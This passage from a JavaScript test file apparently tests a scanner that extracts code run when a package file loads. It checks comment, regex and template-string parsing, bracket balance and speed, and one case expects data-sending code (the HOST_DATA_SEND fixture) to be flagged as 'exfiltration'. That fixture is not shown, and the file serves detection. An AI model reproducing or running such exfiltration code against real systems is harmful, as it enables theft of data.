    expect(readLoadJavaScript(nested + HEAD + HOST_DATA_SEND)).toEqual(['exfiltration']);
  });

  test("a comment or a regular expression in a substitution is not read as a string's quote (webpack 5.113.0 CssLoadingRuntimeModule.js)", () => {
    for (const code of [
      "const s = `${fn([\n  // a CDN can't be read from disk\n  \"try {\"\n])}`;\nfunction f() { x() }",
      'const s = `${fn([\n  /* can\'t */ x.replace(/`/g, "")\n])}`;\nfunction f() { x() }',
    ]) {
      expect(loadTimeText(code)).toBe(code.replace('function f() { x() }', 'function () {}'));
    }
  });

  test('a regular expression on the line after a comment is one (prettier 3.10.1 index.mjs): a later comment is still prose', () => {
    const code = "const q = [\n  // quotes\n  /'/g,\n  'x',\n];\n// a closing paren ) in prose\nfunction f() { x() }";
    expect(loadTimeText(code)).toBe("const q = [\n  \n  /'/g,\n  'x',\n];\n\nfunction () {}");
  });

  test('brackets that do not balance (a file cut by a cap): null, not read', () => {
    expect(loadTimeText('function a() { b(')).toBeNull();
    expect(readLoadJavaScript('(function () { ' + HOST_DATA_SEND)).toBeNull();
  });

  test('linear in the text: many small functions calling each other', () => {
    const many = Array.from({ length: 20_000 }, (_, i) => `function f${i}() { f${i + 1}(); }`).join('\n') + '\nf0();';
    const start = performance.now();
    expect(loadTimeText(many)).not.toBeNull();
    expect(performance.now() - start).toBeLessThan(5000);
  });
});
